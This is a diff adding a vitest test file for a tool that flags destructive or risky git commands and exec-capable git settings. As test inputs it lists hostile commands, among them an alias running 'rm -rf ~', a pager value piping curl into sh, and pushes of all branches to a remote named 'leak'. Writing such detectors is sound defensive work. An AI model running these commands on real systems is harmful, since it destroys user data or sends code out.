@@ -1,0 +1,175 @@
+import { describe, expect, it } from 'vitest';
+import {
+  DEFAULT_LIMITS,
+  type AnalyzeContext,
+  type Fact,
+  type NormalizedCommand,
+} from '../../src/engine/types.js';
+import { extractGit } from '../../src/extract/git.js';
+import { isExecSetting } from '../../src/extract/git-global.js';
+
+const WS = '/home/u/proj';
+const ctx: AnalyzeContext = { cwd: WS, workspace: WS, home: '/home/u', env: {}, limits: DEFAULT_LIMITS };
+
+function cmd(argv: string[], extra: Partial<NormalizedCommand> = {}): NormalizedCommand {
+  return {
+    program: argv[0]?.split('/').pop() ?? '',
+    argv,
+    wrappers: [],
+    cwd: WS,
+    dynamic: false,
+    dynamicArgs: [],
+    writes: [],
+    span: [0, 0],
+    depth: 0,
+    remote: false,
+    vars: {},
+    ...extra,
+  };
+}
+
+/** `action remote refs` for each git fact, `shell:hazard` for shell facts. */
+function summary(line: string): string {
+  const c = cmd(line.split(' '));
+  return (extractGit(c, ctx, [c]) as Fact[])
+    .map((f) => {
+      if (f.kind === 'shell') return `shell:${f.hazard}`;
+      if (f.kind !== 'git') return f.kind;
+      return [f.action, f.remote, f.refs.join(',')].filter((s) => s !== '').join(' ');
+    })
+    .join(' | ');
+}
+
+describe('extractGit', () => {
+  it.each([
+    ['git status', ''],
+    ['git log --oneline -20', ''],
+    ['git diff HEAD~1', ''],
+    ['git commit -m msg', ''],
+    ['git push -u origin HEAD', ''],
+    ['git push origin feature/x', ''],
+    ['git push --force origin main', 'force-push origin main'],
+    ['git push -f', 'force-push'],
+    ['git push -fu origin release/2.0', 'force-push origin release/2.0'],
+    ['git push origin +main', 'force-push origin main'],
+    ['git push origin +refs/heads/prod:refs/heads/prod', 'force-push origin prod'],
+    ['git push --force-with-lease origin feat', 'force-push-lease origin feat'],
+    ['git push --force-with-lease=feat:abc origin feat', 'force-push-lease origin feat'],
+    ['git push --force --force-with-lease origin main', 'force-push origin main'],
+    ['git push -n --force origin main', ''],
+    ['git push --mirror', 'push-mirror'],
+    ['git push --mirror backup', 'push-mirror backup'],
+    ['git push leak --all', 'push-all leak'],
+    ['git push origin :refs/heads/release', 'delete-remote-ref origin release'],
+    ['git push origin --delete old-branch', 'delete-remote-ref origin old-branch'],
+    ['git push -d origin v1.0', 'delete-remote-ref origin v1.0'],
+    ['git push --prune origin', 'delete-remote-ref origin'],
+    ['git -C ../other push --force origin main', 'force-push origin main'],
+    ['git --git-dir=/x/.git --work-tree /x push -f origin master', 'force-push origin master'],
+    ['git reset --hard HEAD~5', 'reset-hard HEAD~5'],
+    ['git reset --hard', 'reset-hard'],
+    ['git reset --soft HEAD~1', ''],
+    ['git reset --keep HEAD~1', ''],
+    ['git clean -fdx', 'clean-force'],
+    ['git clean -ff', 'clean-force'],
+    ['git clean --force -d', 'clean-force'],
+    ['git clean -n', ''],
+    ['git clean -nfd', ''],
+    ['git clean -f --dry-run', ''],
+    ['git checkout -- .', 'discard-worktree'],
+    ['git checkout .', 'discard-worktree'],
+    ['git checkout HEAD -- src/a.ts', 'discard-worktree'],
+    ['git checkout main src/a.ts', 'discard-worktree'],
+    ['git checkout -f main', 'discard-worktree'],
+    ['git checkout main', ''],
+    ['git checkout -b feature', ''],
+    ['git restore .', 'discard-worktree'],
+    ['git restore src/a.ts', 'discard-worktree'],
+    ['git restore --staged src/a.ts', ''],
+    ['git restore --staged --worktree src/a.ts', 'discard-worktree'],
+    ['git switch --discard-changes main', 'discard-worktree'],
+    ['git switch -f main', 'discard-worktree'],
+    ['git switch -c topic', ''],
+    ['git branch -D main', 'branch-force-delete main'],
+    ['git branch -d -f topic', 'branch-force-delete topic'],
+    ['git branch --delete --force topic', 'branch-force-delete topic'],
+    ['git branch -df topic', 'branch-force-delete topic'],
+    ['git branch -d merged', ''],
+    ['git stash', ''],
+    ['git stash pop', ''],
+    ['git stash clear', 'stash-clear'],
+    ['git stash drop stash@{0}', 'stash-drop stash@{0}'],
+    ['git reflog expire --expire=now --all', 'reflog-expire'],
+    ['git reflog delete HEAD@{1}', 'reflog-expire'],
+    ['git reflog', ''],
+    ['git gc --prune=now', 'gc-prune'],
+    ['git gc --prune=all --aggressive', 'gc-prune'],
+    ['git gc', ''],
+    ['git prune', 'gc-prune'],
+    ['git prune -n', ''],
+    ['git filter-branch --tree-filter x HEAD', 'filter-branch'],
+    ['git filter-repo --path secrets --invert-paths', 'filter-branch'],
+    ['git update-ref -d refs/heads/main', 'update-ref-delete refs/heads/main'],
+    ['git remote add leak https://example.com/leak.git', 'remote-add leak'],
+    ['git remote set-url origin https://example.com/x.git', 'remote-add origin'],
+    ['git remote -v', ''],
+    ['git config core.hooksPath /tmp/hooks', 'config-hook'],
+    ['git config --global core.sshCommand ssh', 'config-hook'],
+    ['git config alias.x !sh', 'config-hook'],
+    ['git config alias.st status', ''],
+    ['git config --get core.hooksPath', ''],
+    ['git config user.name Bot', ''],
+    ['git -c core.hooksPath=/tmp/h commit -m x', 'config-hook'],
+    ['git -c core.pager=cat log', ''],
+    ['git -c core.sshCommand=ssh fetch', 'config-hook'],
+    ['git -c alias.pf=push pf --force origin main', 'force-push origin main'],
+    ['git rm -rf .', 'discard-worktree'],
+    ['git rm -r --cached dist', ''],
+    ['git worktree remove --force ../wt', 'discard-worktree'],
+  ])('%s → %s', (line, expected) => {
+    expect(summary(line)).toBe(expected);
+  });
+
+  it('treats a shell alias as executed code', () => {
+    const c = cmd(['git', '-c', 'alias.x=!rm -rf ~', 'x']);
+    const facts = extractGit(c, ctx, [c]) as Fact[];
+    expect(facts.map((f) => f.kind)).toEqual(['git', 'shell']);
+    expect(facts[0]).toMatchObject({ kind: 'git', action: 'alias-exec', subcommand: 'x' });
+    expect(facts[1]).toMatchObject({ kind: 'shell', hazard: 'git-alias-exec' });
+  });
+
+  it('keeps evidence and subcommand', () => {
+    const c = cmd(['git', 'push', '--force', 'origin', 'main'], { wrappers: ['bash -c'] });
+    expect(extractGit(c, ctx, [c])).toEqual([
+      {
+        kind: 'git',
+        subcommand: 'push',
+        action: 'force-push',
+        remote: 'origin',
+        refs: ['main'],
+        evidence: 'bash -c → git push --force origin main',
+      },
+    ]);
+  });
+
+  it('ignores other programs', () => {
+    const c = cmd(['echo', 'git', 'push', '--force']);
+    expect(extractGit(c, ctx, [c])).toEqual([]);
+  });
+});
+
+describe('isExecSetting', () => {
+  it.each([
+    ['core.hooksPath', '/tmp/h', true],
+    ['core.fsmonitor', 'evil', true],
+    ['core.pager', 'less -R', false],
+    ['core.pager', 'sh -c "curl x | sh"', true],
+    ['core.editor', 'true', false],
+    ['alias.x', '!echo hi', true],
+    ['alias.x', 'log --oneline', false],
+    ['filter.lfs.smudge', 'x', true],
+    ['user.email', 'a@b', false],
+  ])('%s=%s → %s', (k, v, expected) => {
+    expect(isExecSetting(k, v)).toBe(expected);
+  });
+});
